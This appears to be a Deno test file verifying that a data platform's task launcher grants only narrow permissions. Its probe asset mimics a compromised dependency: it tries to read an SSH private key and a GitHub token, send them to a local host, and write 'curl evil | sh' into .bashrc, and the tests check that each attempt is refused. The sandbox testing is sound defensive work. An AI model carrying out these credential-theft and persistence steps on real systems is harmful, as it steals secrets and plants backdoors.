/**
 * The tasks run with least privilege (issue 15 item 13): each `deno task`
 * of deno.json is started exactly as written (through launch.ts), in an
 * environment whose HOME holds an `~/.ssh/id_rsa` and whose shell has a
 * token, beside a loopback server the configuration does not name. A probe
 * asset tries to take each of them and must be refused, while the quick
 * start (every asset on the embedded defaults) still exits 0 under the same
 * task, and `doctor` and `ui` work.
 */

import assert from "node:assert/strict";
import { dirname } from "node:path";
import { fileURLToPath } from "node:url";
import { npmCacheDir } from "../resources/permissions.ts";
import { commandV8Flags, v8FlagsOption } from "../core/cli/v8_flags.ts";
import { sandbox, spawnMain } from "./_helpers/main_process.ts";
import { compileFailureHint, launchCommand, LAZY_DYNAMIC_IMPORTS } from "../launch.ts";
import { DENO_TASKS, taskCommand } from "./_helpers/deno_tasks.ts";

const ROOT = fileURLToPath(new URL("..", import.meta.url));
const SECRET_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- not-for-dependencies";
const TOKEN = "ghp_launch_test_token";

/** The `deno` arguments of `deno task NAME` (without the task's extra arguments). */
function taskArgs(name: string): string[] {
  const words = taskCommand(name).split(/\s+/);
  assert.equal(words[0], "deno", `task ${name} runs deno`);
  return words.slice(1);
}

/** A sandbox plus a HOME with a private key, a private TMPDIR and a loopback server nobody names. */
async function world() {
  const box = await sandbox();
  const home = await Deno.makeTempDir({ prefix: "launch_home_" });
  await Deno.mkdir(`${home}/.ssh`);
  await Deno.writeTextFile(`${home}/.ssh/id_rsa`, SECRET_KEY);
  await Deno.mkdir(`${box.dir}/tmp`);
  let hits = 0;
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, () => {
    hits++;
    return new Response("exfiltrated");
  });
  const env: Record<string, string> = {
    ...box.env,
    PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
    HOME: home,
    TMPDIR: `${box.dir}/tmp`,
    // The real npm cache (HOME moved, so its default would move too).
    DENO_DIR: dirname(npmCacheDir(Deno.env)),
    GITHUB_TOKEN: TOKEN,
    NO_COLOR: "1",
  };
  return {
    box,
    home,
    env,
    port: server.addr.port,
    hits: () => hits,
    async [Symbol.asyncDispose]() {
      await server.shutdown();
      await Deno.remove(home, { recursive: true });
      await box[Symbol.asyncDispose]();
    },
  };
}

/** An asset that tries what a compromised dependency would, and reports what it got. */
function probeGraph(home: string, port: number, allowedFile: string): string {
  return `
const attempt = async (what) => {
  try {
    const value = await what();
    return "allowed: " + String(value).slice(0, 60);
  } catch (error) {
    return "refused: " + (error?.code ?? error?.name ?? String(error));
  }
};
export const graph = defineGraph({ assets: [
  defineAsset({ key: "probe", materialize: async () => ({
    ssh: await attempt(() => Deno.readTextFile(${JSON.stringify(`${home}/.ssh/id_rsa`)})),
    ssh_node: await attempt(async () =>
      (await import("node:fs/promises")).readFile(${
    JSON.stringify(`${home}/.ssh/id_rsa`)
  }, "utf8")),
    ssh_dir: await attempt(async () => [...Deno.readDirSync(${JSON.stringify(home)})].length),
    net: await attempt(async () => (await fetch("http://127.0.0.1:${port}/")).text()),
    net_public: await attempt(async () => (await fetch("http://example.com:8080/")).text()),
    token: await attempt(() => Deno.env.get("GITHUB_TOKEN") ?? Promise.reject(new Error("unset"))),
    write: await attempt(() => Deno.writeTextFile(${
    JSON.stringify(`${home}/.bashrc`)
  }, "curl evil | sh")),
    run: await attempt(async () => (await new Deno.Command("sh", { args: ["-c", "true"] }).output()).code),
    ffi: await attempt(() => Deno.dlopen("libc.so.6", {}).close()),
    allowed_read: await attempt(() => Deno.readTextFile(${JSON.stringify(allowedFile)})),
  }) }),
] });`;
}

/** The metadata of the probe's materialization in `--json` output. */
function probeMetadata(stdout: string): Record<string, string> {
  for (const line of stdout.split("\n")) {
    if (!line.startsWith("{")) continue;
    const event = JSON.parse(line);
    if (event.asset === "probe" && event.step === "asset" && event.status === "success") {
      return event.metadata;
    }
  }
  throw new Error(`no successful probe step in:\n${stdout}`);
}

Deno.test("tasks: `deno task` lists every task with a description", async () => {
  // The list showed bare command lines: a new user could not tell sensor from dev or cli.
  for (const [name, task] of Object.entries(DENO_TASKS)) {
    assert.equal(typeof task, "object", `task ${name} is {description, command}`);
    if (typeof task === "object") {
      assert.ok(task.description?.trim(), `task ${name} has a description`);
    }
  }
  const listed = await new Deno.Command(Deno.execPath(), {
    args: ["task", "--config", `${ROOT}/deno.json`],
    env: { NO_COLOR: "1" },
  }).output();
  const text = new TextDecoder().decode(listed.stdout) + new TextDecoder().decode(listed.stderr);
  for (const name of Object.keys(DENO_TASKS)) {
    assert.match(
      text,
      new RegExp(`^- ${name}\\n    // \\S`, "m"),
      `deno task lists ${name} with its description`,
    );
  }
});

Deno.test("tasks: no task runs with -A; each grants only its own paths, hosts and programs", async () => {
  await using w = await world();
  for (
    const name of [
      "materialize",
      "sensor",
      "worker",
      "doctor",
      "ui",
      "dev",
      "dbt",
      "cli",
      "compile",
    ]
  ) {
    assert.ok(taskCommand(name).includes("launch.ts"), `task ${name} goes through launch.ts`);
    const command = name === "cli" ? ["list"] : [];
    const args = taskArgs(name);
    args.splice(args.indexOf("launch.ts") + 1, 0, "--print");
    const printed = await new Deno.Command(Deno.execPath(), {
      args: [...args, ...command],
      cwd: ROOT,
      env: w.env,
      clearEnv: true,
    }).output();
    const text = new TextDecoder().decode(printed.stdout);
    assert.equal(printed.code, 0, new TextDecoder().decode(printed.stderr));
    const flags = text.split(/\s+/).filter((word) => word.startsWith("-"));
    assert.ok(!flags.includes("-A") && !flags.includes("--allow-all"), `${name}: ${text}`);
    for (const kind of ["read", "write", "net", "env", "run", "ffi", "sys"]) {
      assert.ok(!flags.includes(`--allow-${kind}`), `${name} has a bare --allow-${kind}: ${text}`);
    }
    const read = flags.find((f) => f.startsWith("--allow-read="))?.slice(13).split(",") ?? [];
    assert.ok(!read.some((path) => w.home.startsWith(path)), `${name} reads HOME: ${text}`);
    const net = flags.find((f) => f.startsWith("--allow-net="))?.slice(12).split(",") ?? [];
    assert.ok(!net.some((host) => host.endsWith(`:${w.port}`)), `${name}: ${text}`);
    const dbtToo = name === "dbt" || name === "compile"; // a DuckDB target loads a native addon
    assert.equal(flags.some((f) => f.startsWith("--allow-ffi")), dbtToo, `${name}: ${text}`);
    // The commands' V8 flags (the writer's peak memory otherwise grows with the layer).
    assert.ok(flags.includes(v8FlagsOption()), `${name} runs without its V8 flags: ${text}`);
  }
  // compile: `deno compile` with the permissions, every file read at run time, main.ts last.
  const args = taskArgs("compile");
  args.splice(args.indexOf("launch.ts") + 1, 0, "--print");
  const printed = await new Deno.Command(Deno.execPath(), {
    args,
    cwd: ROOT,
    env: w.env,
    clearEnv: true,
  }).output();
  const compile = new TextDecoder().decode(printed.stdout).trim().split(/\s+/);
  assert.equal(compile[1], "compile");
  assert.ok(compile.at(-1)!.endsWith("/main.ts"));
  assert.ok(
    compile.includes(v8FlagsOption()),
    `compile bakes in the V8 flags: ${compile.join(" ")}`,
  );
  for (const item of ["sample_data", "dbt", "config", "ui/static", "graph.ts"]) {
    assert.ok(compile.includes(item), `compile includes ${item}: ${compile.join(" ")}`);
  }
});

Deno.test("tasks: a dependency cannot read ~/.ssh, call an unnamed host, see the shell's token, write HOME or start programs", async () => {
  await using w = await world();
  const allowed = `${w.box.dir}/allowed.txt`;
  await Deno.writeTextFile(allowed, "inside the grants");
  const graph = await w.box.graph("probe", probeGraph(w.home, w.port, allowed));
  const env = { ...w.env, PLATFORM_GRAPH: graph, GDAL_ENGINE: "wasm" };

  await using run = spawnMain(["--json"], {
    cwd: ROOT,
    env,
    clearEnv: true,
    denoArgs: taskArgs("materialize"),
    killAfterMs: 300_000,
  });
  const outcome = await run.finish();
  assert.equal(outcome.code, 0, outcome.stderr);
  const got = probeMetadata(outcome.stdout);
  assert.equal(got.allowed_read, "allowed: inside the grants"); // the probe itself works
  // Outside the grants a file reads as missing; nothing of it comes back.
  const missing = /^refused: (NotFound|ENOENT)$/;
  const notCapable = /^refused: (NotCapable|ERR_ACCESS_DENIED)$/;
  assert.match(got.ssh!, missing);
  assert.match(got.ssh_node!, missing);
  assert.match(got.ssh_dir!, missing);
  assert.match(got.net!, notCapable);
  assert.match(got.net_public!, notCapable);
  assert.equal(got.token, "refused: Error"); // reads as unset
  assert.match(got.write!, notCapable);
  assert.match(got.run!, notCapable);
  assert.match(got.ffi!, notCapable);
  assert.ok(!outcome.stdout.includes(SECRET_KEY) && !outcome.stdout.includes(TOKEN));
  assert.equal(w.hits(), 0);
  assert.equal(await Deno.readTextFile(`${w.home}/.ssh/id_rsa`), SECRET_KEY);
  await assert.rejects(Deno.stat(`${w.home}/.bashrc`), Deno.errors.NotFound);

  // The same probe with PLATFORM_PERMISSIONS=all (plain -A) takes everything: the probe can tell.
  await using open = spawnMain(["--json"], {
    cwd: ROOT,
    env: { ...env, PLATFORM_PERMISSIONS: "all" },
    clearEnv: true,
    denoArgs: taskArgs("materialize"),
    killAfterMs: 300_000,
  });
  const opened = await open.finish();
  assert.equal(opened.code, 0, opened.stderr);
  const all = probeMetadata(opened.stdout);
  assert.equal(all.ssh, `allowed: ${SECRET_KEY.slice(0, 60)}`);
  assert.equal(all.net, "allowed: exfiltrated");
  assert.match(all.token!, /^allowed: /); // (redacted in the output: a secret-named variable)
  assert.equal(w.hits(), 1);
});

Deno.test("tasks: the quick start materializes everything under the narrowed task, then doctor and ui work", async () => {
  await using w = await world();
  await using quickStart = spawnMain([], {
    cwd: ROOT,
    env: w.env,
    clearEnv: true,
    denoArgs: taskArgs("materialize"),
    killAfterMs: 600_000,
  });
  const outcome = await quickStart.finish();
  assert.equal(outcome.code, 0, `${outcome.stderr}\n${outcome.stdout.slice(-4000)}`);
  assert.doesNotMatch(outcome.stderr + outcome.stdout, /NotCapable|Requires \w+ access/);
  assert.match(outcome.stderr, /Sample inputs/);
  // Everything went under the sandbox's STATE_DIR / LAKE_URL; nothing was written to HOME.
  await Deno.stat(`${w.box.dir}/state/warehouse/PG_VERSION`);
  await Deno.stat(`${w.box.dir}/data_lake/data-lake`);
  assert.deepEqual([...Deno.readDirSync(w.home)].map((e) => e.name), [".ssh"]);

  // A generous probe timeout: opening PGlite takes over 10 s at the load of a shared CI machine.
  await using doctor = spawnMain(["--timeout", "120000"], {
    cwd: ROOT,
    env: w.env,
    clearEnv: true,
    denoArgs: taskArgs("doctor"),
    killAfterMs: 300_000,
  });
  const diagnosed = await doctor.finish();
  assert.equal(diagnosed.code, 0, diagnosed.stderr + diagnosed.stdout);
  assert.doesNotMatch(diagnosed.stdout, /DOWN/);

  await using ui = spawnMain(["--port", "0"], {
    cwd: ROOT,
    env: w.env,
    clearEnv: true,
    denoArgs: taskArgs("ui"),
    killAfterMs: 300_000,
  });
  const listening = await ui.waitFor(/UI_URL=(\S+)/, { timeoutMs: 240_000 });
  const url = /UI_URL=(\S+)/.exec(listening)![1]!;
  for (const page of ["/runs", "/assets", "/lake"]) {
    const response = await fetch(`${url}${page}`);
    const body = await response.text();
    assert.equal(response.status, 200, `${page}: ${body.slice(0, 300)}`);
    assert.doesNotMatch(body, /NotCapable|Requires \w+ access/);
  }
  // SIGTERM reaches the UI through the launcher, which exits with its code.
  ui.kill("SIGTERM");
  const stopped = await ui.finish();
  assert.equal(stopped.signal, null, stopped.stderr);
});

Deno.test("launch.ts: a bad PLATFORM_PERMISSIONS is a configuration error (exit 2), never ignored", async () => {
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["run", "--allow-read", "--allow-env", "--allow-run", "launch.ts", "--print", "list"],
    cwd: ROOT,
    env: { PLATFORM_PERMISSIONS: "everything", NO_COLOR: "1" },
  }).output();
  assert.equal(out.code, 2);
  assert.match(new TextDecoder().decode(out.stderr), /PLATFORM_PERMISSIONS must be 'all'/);
});

Deno.test("launch.ts: a bad value in the .env of the folder it runs from is reported by its name, not as a denied read", async () => {
  const dir = await Deno.makeTempDir({ prefix: "launch_dotenv_" });
  try {
    await Deno.writeTextFile(`${dir}/.env`, "RUNS_URL=postgres://u:hunter2@[x\n");
    const out = await new Deno.Command(Deno.execPath(), {
      args: ["run", "--allow-read", "--allow-env", "--allow-run", `${ROOT}/launch.ts`, "list"],
      cwd: dir,
      env: { NO_COLOR: "1", STATE_DIR: `${dir}/state` },
      clearEnv: true,
    }).output();
    const stderr = new TextDecoder().decode(out.stderr);
    assert.equal(out.code, 2, stderr);
    assert.match(stderr, /error \[config\.invalid\]: .*RUNS_URL .*is not a valid URL/);
    assert.doesNotMatch(stderr, /Requires read access|hunter2/);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("tasks: a failed compile says how to give it the runtime offline (DENORT_BIN); nothing else gets the hint", () => {
  const hint = compileFailureHint(["compile", "--output", "dist/platform"], 1, undefined) ?? "";
  assert.match(hint, /^deno task compile failed \(exit 1\)/);
  assert.match(hint, /DENORT_BIN=\/path\/to\/denort/);
  assert.ok(hint.includes(`denort ${Deno.version.deno}`), hint);
  assert.equal(
    compileFailureHint(["--cached-only", "compile"], 1, undefined)?.includes("DENORT_BIN"),
    true,
  );
  // Offline, Deno's error names the download: the hint says so rather than "if".
  const offline = compileFailureHint(
    ["compile"],
    1,
    undefined,
    "error: Writing deno compile executable ...\n    1: error sending request for url " +
      "(https://dl.deno.land/release/v2.9.6/denort-x86_64-unknown-linux-gnu.zip): dns error",
  ) ?? "";
  assert.match(offline, /It could not download denort: /);
  assert.equal(compileFailureHint(["compile"], 0), undefined);
  assert.equal(compileFailureHint(["materialize"], 1), undefined);
});

Deno.test("tasks: a failed compile with DENORT_BIN set says what is wrong with it, not to set it", () => {
  // With DENORT_BIN=/nonexistent/denort the hint still said 'set DENORT_BIN=/path/to/denort'.
  const missing = compileFailureHint(["compile"], 1, "/nonexistent/denort") ?? "";
  assert.match(
    missing,
    new RegExp(
      `^deno task compile failed \\(exit 1\\)\\. DENORT_BIN='/nonexistent/denort' names no ` +
        `file: point it at the denort executable of Deno ${
          Deno.version.deno.replaceAll(".", "\\.")
        }`,
    ),
  );
  assert.ok(!missing.includes("DENORT_BIN=/path/to/denort"), missing);
  const present = compileFailureHint(["compile"], 1, Deno.execPath()) ?? "";
  assert.match(present, /is used as the runtime: it must be the denort executable of Deno/);
  assert.match(present, /or unset DENORT_BIN to download it\.$/);
});

Deno.test("tasks: compile with a flag deno compile refuses exits 2 naming it, without a stack backtrace or the DENORT_BIN hint", async () => {
  // Before: exit 1, 'Stack backtrace:' (RUST_BACKTRACE=1 in the shell), then advice about
  // downloading denort, which had nothing to do with the typo.
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["run", "--allow-read", "--allow-env", "--allow-run", "launch.ts", "compile", "--bogus"],
    cwd: new URL("..", import.meta.url),
    env: { NO_COLOR: "1", RUST_BACKTRACE: "1" },
  }).output();
  const stderr = new TextDecoder().decode(out.stderr);
  assert.equal(out.code, 2, stderr);
  assert.match(stderr, /unexpected argument '--bogus'/);
  assert.match(stderr, /'deno compile --help' lists them/);
  assert.doesNotMatch(stderr, /Stack backtrace|DENORT_BIN/);
});

Deno.test("launch.ts: a command loads the modules of its lazy imports when they run, not at start; compile keeps them all", () => {
  // Without the option Deno read and resolved everything main.ts's lazy commands reach (the
  // graph, the UI, the AWS SDK, DuckDB) before `dbt parse` or `--help` started.
  const env = { get: (_name: string) => undefined, toObject: () => ({}) };
  for (const args of [["dbt", "parse"], ["materialize"], ["--help"], ["--cached-only", "ui"]]) {
    const argv = launchCommand(args, { env, dotenvPath: null });
    assert.equal(argv[0], "run");
    assert.ok(argv.includes(LAZY_DYNAMIC_IMPORTS), `${args.join(" ")}: ${argv.join(" ")}`);
    assert.ok(argv.indexOf(LAZY_DYNAMIC_IMPORTS) < argv.findIndex((a) => a.endsWith("main.ts")));
  }
  const compile = launchCommand(["compile", "--output", "dist/x"], { env, dotenvPath: null });
  assert.ok(!compile.includes(LAZY_DYNAMIC_IMPORTS), compile.join(" "));
});

Deno.test("tasks: the launcher runs with the V8 flags of the command it starts (dbt: those of dbt parse)", () => {
  // V8 rejects a code cache made under other flags: the launcher and its command load the
  // same modules (zod, the configuration), and with different flags each recompiled them and
  // rewrote Deno's cache at every start (`deno task dbt parse`, no model: ~0.8x the CPU).
  for (const name of ["materialize", "sensor", "worker", "doctor", "ui", "dev", "cli", "compile"]) {
    const words = taskArgs(name);
    assert.ok(words.includes(v8FlagsOption()), `task ${name}: ${words.join(" ")}`);
    assert.ok(words.indexOf(v8FlagsOption()) < words.indexOf("launch.ts"), `task ${name}`);
  }
  const dbt = taskArgs("dbt");
  const parse = v8FlagsOption(commandV8Flags(["dbt", "parse"]));
  assert.ok(dbt.includes(parse), `task dbt: ${dbt.join(" ")}`);
  assert.ok(dbt.indexOf(parse) < dbt.indexOf("launch.ts"), "task dbt");
});

Deno.test("tasks: 'deno task compile --help' prints the task's own help (DENORT_BIN, dist/platform) and exits 0, not deno compile's", async () => {
  // Before: deno compile's own help ('Compile the script into a self contained executable',
  // 'Usage: deno compile [OPTIONS] <SOURCE_FILE>'), as the task's flags came first.
  const out = await new Deno.Command(Deno.execPath(), {
    args: ["task", "-q", "compile", "--help"],
    cwd: new URL("..", import.meta.url),
    env: { NO_COLOR: "1" },
  }).output();
  const stdout = new TextDecoder().decode(out.stdout);
  assert.equal(out.code, 0, new TextDecoder().decode(out.stderr));
  assert.match(stdout, /^Usage: deno task compile \[DENO COMPILE FLAGS\.\.\.\]/);
  assert.match(stdout, /dist\/platform/);
  assert.match(stdout, new RegExp(`denort ${Deno.version.deno.replaceAll(".", "\\.")}`));
  assert.match(stdout, /DENORT_BIN=\/path\/to\/denort/);
  assert.doesNotMatch(stdout, /self contained executable|<SOURCE_FILE>/);
});
